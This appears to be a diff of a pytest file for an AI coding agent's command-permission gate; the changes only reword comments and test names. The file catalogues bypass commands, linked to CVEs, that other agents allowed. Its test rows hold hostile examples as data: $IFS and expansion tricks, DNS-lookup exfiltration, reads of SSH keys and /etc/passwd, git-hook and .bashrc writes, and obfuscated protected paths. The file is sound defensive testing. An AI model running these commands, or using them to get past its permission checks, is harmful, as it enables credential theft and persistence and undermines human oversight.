@@ -1,7 +1,7 @@
 """Commands that other agents let through, one per row; none runs unasked.
 
 A row has rules that a user might have made, a command that they must not allow, and a similar one
-that they do allow. The second one shows that the rules apply, and nothing else causes the question.
+that they do allow. The similar one shows that the rules apply and that nothing else makes it ask.
 """
 
 from dataclasses import dataclass
@@ -37,7 +37,7 @@ ROWS = {
             "rg -z foo", "rg foo --pre ./x", "rg 'a' --pre='sh' src", "rg -e x --search-zip"),
         allowed=("rg foo src", "rg -e pre src"),
     ),
-    # `$IFS`, short flags and other tricks that a parser reads otherwise than bash (CVE-2025-66032).
+    # `$IFS`, short flags and other text that a parser reads differently from bash (CVE-2025-66032).
     "a-parser-reads-other-words-than-bash": Row(
         refused=("cat$IFS/etc/passwd", "echo x$IFS;rm", "sort${IFS}-o${IFS}a${IFS}b",
             "sort -oa b", "sort --out\\\nput=a b", "sort {-o,a} b", "find . -ex\\ec rm a +",
@@ -69,7 +69,7 @@ ROWS = {
             "awk 1 a"),
         allowed=("cut -d: -f1 a",),
     ),
-    # What resolves a name tells it to whoever answers for the name (CVE-2025-55284).
+    # Resolving a name sends it to the name server of its domain (CVE-2025-55284).
     "a-lookup-of-a-name-carries-something-out": Row(
         refused=("ping -c1 secret.example.com", "nslookup secret.example.com",
             "host x.example.com", "dig x.example.com", "getent hosts x", "hostname -f",
@@ -77,7 +77,7 @@ ROWS = {
             "cat a | ping x"),
         allowed=("hostname", "git remote -v"),
     ),
-    # Expansions run what they hold, with nothing that looks like a command (GHSA-g8r9-g2v8-jv6f).
+    # Expansions run commands although nothing looks like a command (GHSA-g8r9-g2v8-jv6f).
     "an-expansion-runs-what-it-holds": Row(
         allow=("execute:echo **",),
         refused=("echo ${x@P}", "echo ${x:=$(id)}", "echo ${!x}", "echo \"${x@P}\"",
@@ -105,7 +105,7 @@ ROWS = {
             "bash -c 'rm a' && sh -c 'rm b'"),
         allowed=("bash -c 'make all'",),
     ),
-    # The protected name stands in another word than the folder that a `cd` went to.
+    # The protected name is in another word than the folder given to `cd`.
     "a-cd-hides-the-protected-place": Row(
         allow=("execute:touch **", "execute:cp **", "execute:tee **", "edit:**"),
         refused=("cd .git && touch hooks/pre-commit", "cd .git/hooks && cp ../../a pre-commit",
@@ -114,7 +114,7 @@ ROWS = {
             "cd .git && echo x > config", "cd src && cp a.py ../.git/hooks/pre-commit"),
         allowed=("cd src && touch new", "touch new"),
     ),
-    # What did not parse was compared as plain text, and `echo **` covers any text.
+    # A command that did not parse was compared as plain text, and `echo **` covers any text.
     "what-does-not-parse-is-matched-as-text": Row(
         allow=("execute:echo **", "execute:ls **"),
         refused=("echo x; rm a; echo 'unclosed", "echo x\nrm a\nif", "echo x; rm a; )",
@@ -133,7 +133,7 @@ ROWS = {
             "f() { curl x; } >/dev/null; f"),
         allowed=("echo hi >/dev/null 2>&1",),
     ),
-    # The place that is redirected to was left out of what was compared.
+    # The target of a redirection was not compared with the rules.
     "a-redirection-is-left-out-of-the-comparison": Row(
         allow=("execute:echo **", "execute:cat **", "execute:ls **"),
         refused=("echo x > ~/.bashrc", "echo x >> ~/.bashrc", "echo x > /etc/x",
@@ -150,7 +150,7 @@ ROWS = {
             "env PATH=. ls", "PAGER=./x git log", "IFS=/ ls"),
         allowed=("ls", "git fetch", "make"),
     ),
-    # A wildcard that allows a command also opened every place outside of the project.
+    # A wildcard rule for a command also allowed every path outside the project.
     "a-wildcard-opens-places-outside": Row(
         allow=("execute:*", "edit:**", "read:**"),
         refused=("cat /etc/passwd", "touch /tmp/x", "cp a /tmp/x", "ls ..", "cat ~/.ssh/id_rsa",
@@ -158,7 +158,7 @@ ROWS = {
             "find / -name x"),
         allowed=("cp a b", "touch src/new", "make"),
     ),
-    # A program of the project that is called like a listed one.
+    # A program in the project that has the name of a listed program.
     "a-program-of-that-name-elsewhere-counts-as-it": Row(
         allow=("execute:git status",),
         refused=("./git status", "/tmp/x/git status", "src/git status", "./ls", "/bin/ls",
@@ -175,7 +175,7 @@ ROWS = {
 
 
 @pytest.mark.parametrize("row", ROWS)
-def test_what_others_let_through_is_not_allowed(project: Project, row: str) -> None:
+def test_commands_that_other_agents_let_through_are_not_allowed(project: Project, row: str) -> None:
     rules = [allow(rule) for rule in ROWS[row].allow]
 
     effects = {text: project.run(text, *rules).effect for text in ROWS[row].refused}
@@ -187,7 +187,7 @@ def test_what_others_let_through_is_not_allowed(project: Project, row: str) -> N
 
 @pytest.mark.parametrize("parts", [50, 51, 64, 65, 200])
 @pytest.mark.parametrize("mode", ["standard", "yolo"])
-def test_a_deny_rule_holds_behind_any_number_of_parts(
+def test_deny_rule_applies_after_any_number_of_command_parts(
     project: Project, parts: int, mode: Mode
 ) -> None:
     command = " && ".join([*["ls"] * (parts - 1), "rm a"])
@@ -197,7 +197,7 @@ def test_a_deny_rule_holds_behind_any_number_of_parts(
 
 
 @pytest.mark.parametrize("mode", ["standard", "accept", "yolo"])
-def test_no_early_allow_ends_the_looking(project: Project, mode: Mode) -> None:
+def test_allowed_part_or_claim_does_not_stop_check_of_others(project: Project, mode: Mode) -> None:
     gate = project.gate(allow("execute:*"), deny("execute:rm *"), mode=mode)
     gate.add_grant("execute:ls")
     gate.add_grant("execute:rm a")
@@ -209,7 +209,9 @@ def test_no_early_allow_ends_the_looking(project: Project, mode: Mode) -> None:
 
 
 @pytest.mark.parametrize("command", ["ls ==", "ls ] [", "ls 2>&1 a", "ls |1@ x", "ls -2>&1"])
-def test_where_two_readers_see_different_words_it_asks(project: Project, command: str) -> None:
+def test_command_that_lexer_and_parser_read_differently_asks(
+    project: Project, command: str
+) -> None:
     assert not sees_the_same(command, lex(command))
     assert project.run(command, allow("execute:ls *"), allow("execute:*")).effect == "ask"
 
@@ -225,7 +227,7 @@ def test_where_two_readers_see_different_words_it_asks(project: Project, command
         ("python x.py", ("python y.py", "python x.py --all", "python", "python3 x.py")),
     ],
 )
-def test_a_grant_does_not_widen_to_its_family(
+def test_grant_does_not_cover_similar_commands(
     project: Project, granted: str, not_covered: tuple[str, ...]
 ) -> None:
     gate = project.gate()
@@ -236,7 +238,7 @@ def test_a_grant_does_not_widen_to_its_family(
     assert {gate.decide([project.execute(text)]).effect for text in not_covered} == {"ask"}
 
 
-def test_a_folder_with_the_same_beginning_is_not_the_project(own_project: Project) -> None:
+def test_sibling_folder_with_same_prefix_is_outside_project(own_project: Project) -> None:
     other = own_project.home / "proj-other"
     other.mkdir()
     other.joinpath("x").write_text("")
@@ -253,7 +255,7 @@ def test_a_folder_with_the_same_beginning_is_not_the_project(own_project: Projec
     [".git/hooks/x", ".dirge/config.toml", ".dirge/mcp.json", ".mcp.json", ".husky/x", ".envrc",
      ".vscode/tasks.json"],
 )  # fmt: skip
-def test_a_name_is_protected_before_and_after_anything_stands_there(
+def test_protected_name_is_protected_whether_or_not_file_exists(
     own_project: Project, path: str
 ) -> None:
     gate = own_project.gate(allow("edit:**"), allow("execute:*"))
@@ -274,7 +276,7 @@ def test_a_name_is_protected_before_and_after_anything_stands_there(
      ".DIRGE/Config.toml", ".dir\u200cge/x", ".g\ufeffit/config", ".GitHub/WORKFLOWS/x.yml",
      "sub/.HUSKY/pre-commit"],
 )  # fmt: skip
-def test_a_protected_name_is_protected_in_every_spelling(project: Project, path: str) -> None:
+def test_protected_name_asks_in_any_letter_case_and_spelling(project: Project, path: str) -> None:
     decision = project.gate(allow("edit:**")).decide([project.claim("edit", path)])
 
     assert (decision.effect, decision.policy) == ("ask", "protected")
@@ -284,7 +286,7 @@ def test_a_protected_name_is_protected_in_every_spelling(project: Project, path:
 @pytest.mark.parametrize(
     "path", ["HOME/.ssh/id_rsa", "HOME/.aws/credentials", "/etc/passwd", "../x", "HOME/notes"]
 )
-def test_reading_outside_asks_in_every_mode_but_yolo(
+def test_reading_outside_project_asks_in_every_mode_but_yolo(
     project: Project, mode: Mode, path: str
 ) -> None:
     place = path.replace("HOME", str(project.home))
